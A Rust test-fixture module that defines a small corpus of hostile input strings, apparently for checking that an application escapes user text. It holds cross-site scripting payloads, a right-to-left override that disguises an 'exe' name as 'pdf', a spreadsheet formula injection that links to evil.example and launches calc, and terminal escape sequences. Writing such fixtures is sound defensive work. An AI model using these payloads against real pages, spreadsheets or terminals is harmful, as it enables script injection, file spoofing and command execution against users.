//! Texts that want to be more than text.

/// Stands for half a character in this table: a body has it as the escape `\ud800`, which no text of Rust can hold.
pub const HALF: char = '\u{f0000}';

/// A hostile text.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Entry {
    /// What it is called.
    pub name: &'static str,
    /// It, with [`HALF`] for half a character.
    text: &'static str,
    /// Whether it stands behind what it changes, else before it.
    behind: bool,
}

/// Every hostile text, by kind. Whatever is executed sets `window.__owned` and the title.
pub const CORPUS: [Entry; 6] = [
    entry("scripts", SCRIPTS),
    entry("signs", SIGNS),
    // Ends whatever it stands in, then turns around what follows, and ends nothing of it.
    Entry {
        name: "bidi",
        text: "\u{2069}\u{2069}\u{202c}\u{202e}\u{2067}\u{202d}fdp.\u{202e}exe\u{2066}\u{202b}",
        behind: true,
    },
    entry("unbroken", UNBROKEN),
    entry("formula", "=HYPERLINK(\"https://evil.example/?\"&A1;\"x\")+cmd|' /C calc'!A0"),
    entry("tab-formula", "\t@SUM(1);\r\n-2+3,\"\n+4\u{2028}\u{2029}\u{85}"),
];

/// An address that is a program; then out of text, attributes of either quote, elements that hold text, and what
/// templates would read.
const SCRIPTS: &str = concat!(
    "javascript:window.__owned=1//<img src=x onerror=\"window.__owned=1;document.title='OWNED'\">",
    "<script>window.__owned=1</script><svg/onload=window.__owned=1>\"'`></title></style></textarea></script></bdi></td></table>",
    "<iframe srcdoc='<script>parent.__owned=1</script>'></iframe>",
    "<x onfocus=window.__owned=1 autofocus tabindex=0 style=position:fixed>",
    "{{constructor.constructor('window.__owned=1')()}}${window.__owned=1}&lt;b&gt;&#x202e;%3Cb%3E\\u003cb"
);

/// An address that is a page; then what terminals obey, controls, right to left, nothing wide, half a character twice,
/// joined and stacked signs.
const SIGNS: &str = concat!(
    "data:text/html,<script>window.__owned=1</script>#\u{1b}[31m\u{1b}[2J\u{1b}]8;;https://evil.example\u{7}\u{8}\u{9b}1m",
    "\0\u{1}\u{1f}\u{7f}\u{80}\u{fffe} شركة المبيعات \u{200f}(עברית) ",
    "a\u{200b}\u{200d}\u{2060}b\u{feff}\u{ad}c\u{34f}\u{115f}\u{3164}\u{e0061}\u{e007f}\u{f0000}\u{f0000} ",
    "👩\u{200d}👩\u{200d}👧\u{200d}👦🏳\u{fe0f}\u{200d}🌈🇩🇪e\u{301}Z\u{336}\u{321}\u{30d}\u{30e}\u{304}\u{305}\u{33f}\u{311}",
    "\u{306}\u{310}\u{352}\u{357}\u{351}\u{307}\u{308}\u{30a}\u{342}\u{343}\u{30c}"
);

/// No place to break a line.
const UNBROKEN: &str = concat!(
    "WWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWW",
    "WWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWW",
    "WWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWW_"
);

const fn entry(name: &'static str, text: &'static str) -> Entry {
    Entry { name, text, behind: false }
}

/// The longest beginning of an id: addresses take no more.
const LONGEST_ID: usize = 60;

impl Entry {
    /// The entry of this name.
    pub fn named(name: &str) -> Option<Self> {
        CORPUS.into_iter().find(|entry| entry.name == name)
    }

    /// A text with it, as a body has it once [`raw`] was put into its JSON.
    pub(super) fn with(self, text: &str) -> String {
        if self.behind { format!("{text}{}", self.text) } else { format!("{}{text}", self.text) }
    }

    /// Whether it stands behind what it changes.
    pub(super) fn is_behind(self) -> bool {
        self.behind
    }

    /// It as it must be read: half a character counts as U+FFFD.
    pub fn seen(self) -> String {
        seen(self.text)
    }

    /// As much of it as an id may have: addresses refuse control characters.
    pub(super) fn of_id(self) -> String {
        let (mut id, fits) = (String::new(), |c: &char| !c.is_control());
        for c in self.text.chars().filter(fits) {
            if id.len() + c.len_utf8() > LONGEST_ID {
                break;
            }
            id.push(c);
        }
        id
    }
}

/// The JSON with half characters in place of what stands for them.
pub(super) fn raw(json: &str) -> String {
    json.replace(HALF, "\\ud800")
}

/// A text as it must be read.
pub(super) fn seen(text: &str) -> String {
    text.replace(HALF, "\u{fffd}")
}
